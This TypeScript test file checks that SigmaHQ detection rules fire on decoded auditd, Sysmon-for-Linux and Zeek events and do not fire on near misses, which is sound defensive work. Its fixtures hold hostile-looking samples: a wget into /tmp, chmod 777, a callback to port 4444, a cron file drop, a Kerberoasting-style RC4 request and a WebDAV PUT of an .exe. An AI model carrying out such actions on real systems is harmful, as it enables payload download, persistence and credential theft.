/**
 * End to end for the planned mapping profiles: SigmaHQ rules (../shared/data/sigmahq), loaded with
 * rules/mappings, fire on events our built-in decoders produce — and not on near misses. This is
 * what the profiles' `telemetry: planned` waits for.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { BUILTIN_CODE } from '../../../../pipeline/decoders/builtin';
import type { DecodedFields } from '../../../../pipeline/decoders/types';
import { loadFieldMapping, loadRules } from '../../../../pipeline/detect/load';
import { matchRulesBruteForce } from '../../../../pipeline/detect/match';
import { compileValidators } from '../../../../schemas/validators';

const ROOT = path.resolve(__dirname, '../../../..');
const SIGMA = path.resolve(ROOT, '../shared/data/sigmahq');
const RULES = [
  'linux/auditd/execve/lnx_auditd_susp_cmds.yml',
  'linux/auditd/syscall/lnx_auditd_split_file_into_pieces.yml',
  'linux/process_creation/proc_creation_lnx_wget_download_suspicious_directory.yml',
  'linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml',
  'linux/file_event/file_event_lnx_susp_cron_file_created.yml',
  'network/zeek/zeek_dns_torproxy.yml',
  'network/zeek/zeek_susp_kerberos_rc4.yml',
  'network/zeek/zeek_http_webdav_put_request.yml',
].map((r) => path.join(SIGMA, r));

const available = RULES.every((f) => fs.existsSync(f));
const maybe = available ? describe : describe.skip;

/** An event as the syslog parse leaves it, with the decoded fields put on (as applyDecoded does). */
function event(fields: DecodedFields, program: string): Record<string, unknown> {
  const ev: Record<string, unknown> = { message: 'x', process: { name: program }, log: { syslog: { appname: program } } };
  for (const [k, v] of Object.entries(fields)) {
    const parts = k.split('.');
    let o = ev;
    for (const p of parts.slice(0, -1)) {
      if (typeof o[p] !== 'object' || o[p] === null) o[p] = {};
      o = o[p] as Record<string, unknown>;
    }
    o[parts[parts.length - 1]!] = v;
  }
  return ev;
}

function decoded(code: string, program: string, ...lines: string[]): Record<string, unknown> {
  const impl = BUILTIN_CODE[code]!;
  let fields: DecodedFields | null = null;
  for (const message of lines) {
    const r = impl.decode({ message, program });
    if (!r || !r.ok) throw new Error(`${code} did not decode: ${message}`);
    fields = fields === null ? r.fields : impl.merge!(fields, r.fields);
  }
  return event(fields!, program);
}

maybe('SigmaHQ rules on decoded events (through rules/mappings)', () => {
  const { mapping, problems: mp } = loadFieldMapping(path.join(ROOT, 'rules', 'mappings'));
  const set = loadRules(RULES, compileValidators().rule, mapping ? { mapping } : {});
  const hits = (ev: unknown) => matchRulesBruteForce(set.rules, ev, () => undefined).map((r) => path.basename(r.file ?? r.id));

  it('loads the rules', () => {
    expect(mp).toEqual([]);
    expect(set.problems).toEqual([]);
    expect(set.rules).toHaveLength(RULES.length);
  });

  it('auditd EXECVE chmod 777 (merged with its SYSCALL)', () => {
    const ev = decoded('auditd', 'audispd',
      'type=SYSCALL msg=audit(1700000000.1:77): arch=c000003e syscall=59 success=yes exit=0 a0=5612 a1=5613 a2=5614 a3=0 items=2 ppid=100 pid=200 auid=1000 uid=0 comm="chmod" exe="/usr/bin/chmod" key=(null)',
      'type=EXECVE msg=audit(1700000000.1:77): argc=3 a0="chmod" a1="777" a2="/tmp/x"',
      'type=EOE msg=audit(1700000000.1:77): ');
    expect(hits(ev)).toEqual(['lnx_auditd_susp_cmds.yml']);
    expect(hits(decoded('auditd', 'audispd', 'type=EXECVE msg=audit(1.1:78): argc=3 a0="chmod" a1="755" a2="/tmp/x"'))).toEqual([]);
  });

  it('auditd SYSCALL comm=split', () => {
    const ev = decoded('auditd', 'audispd', 'type=SYSCALL msg=audit(1700000000.2:80): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2 ppid=1 pid=300 auid=1000 uid=1000 comm="split" exe="/usr/bin/split" key=(null)');
    expect(hits(ev)).toEqual(['lnx_auditd_split_file_into_pieces.yml']);
  });

  it('Sysmon for Linux: wget into /tmp, a callback port, a cron file', () => {
    const sys = (id: number, data: Record<string, string>) =>
      `<Event><System><Provider Name="Linux-Sysmon"/><EventID>${id}</EventID><Computer>h</Computer></System><EventData>${Object.entries(data).map(([k, v]) => `<Data Name="${k}">${v}</Data>`).join('')}</EventData></Event>`;
    expect(hits(decoded('sysmon-linux', 'sysmon', sys(1, { Image: '/usr/bin/wget', CommandLine: 'wget http://203.0.113.5/a -O /tmp/a', ProcessId: '5', User: 'root' })))).toEqual(['proc_creation_lnx_wget_download_suspicious_directory.yml']);
    expect(hits(decoded('sysmon-linux', 'sysmon', sys(1, { Image: '/usr/bin/wget', CommandLine: 'wget http://203.0.113.5/a -O /home/u/a', ProcessId: '5' })))).toEqual([]);
    expect(hits(decoded('sysmon-linux', 'sysmon', sys(3, { Image: '/usr/bin/python3', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.2', SourcePort: '40000', DestinationIp: '203.0.113.9', DestinationPort: '4444', ProcessId: '9' })))).toEqual(['net_connection_lnx_susp_malware_callback_port.yml']);
    expect(hits(decoded('sysmon-linux', 'sysmon', sys(3, { Image: '/usr/bin/python3', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.2', SourcePort: '40000', DestinationIp: '10.0.0.9', DestinationPort: '4444', ProcessId: '9' })))).toEqual([]);
    expect(hits(decoded('sysmon-linux', 'sysmon', sys(11, { Image: '/usr/bin/tee', TargetFilename: '/etc/cron.d/job', ProcessId: '9' })))).toEqual(['file_event_lnx_susp_cron_file_created.yml']);
  });

  it('Zeek: a .onion DNS query, an RC4 TGS request, a WebDAV PUT', () => {
    expect(hits(decoded('zeek', 'zeek_dns', '{"ts":1.0,"uid":"C1","id.orig_h":"10.0.0.2","id.orig_p":5000,"id.resp_h":"10.0.0.1","id.resp_p":53,"proto":"udp","query":"abcdefgh.onion","qtype_name":"A","rcode_name":"NXDOMAIN"}'))).toEqual(['zeek_dns_torproxy.yml']);
    expect(hits(decoded('zeek', 'zeek_kerberos', '{"ts":1.0,"uid":"C2","id.orig_h":"10.0.0.2","id.orig_p":5000,"id.resp_h":"10.0.0.1","id.resp_p":88,"request_type":"TGS","client":"bob/CORP","service":"MSSQLSvc/db:1433","success":true,"cipher":"rc4-hmac"}'))).toEqual(['zeek_susp_kerberos_rc4.yml']);
    expect(hits(decoded('zeek', 'zeek_kerberos', '{"ts":1.0,"uid":"C3","request_type":"TGS","client":"bob/CORP","service":"$krbtgt","success":true,"cipher":"rc4-hmac"}'))).toEqual([]);
    expect(hits(decoded('zeek', 'zeek_http', '{"ts":1.0,"uid":"C4","id.orig_h":"10.0.0.2","id.orig_p":5000,"id.resp_h":"198.51.100.3","id.resp_p":80,"method":"PUT","host":"198.51.100.3","uri":"/share/x.exe","user_agent":"Microsoft-WebDAV-MiniRedir/10.0.19041","status_code":201}'))).toEqual(['zeek_http_webdav_put_request.yml']);
  });
});
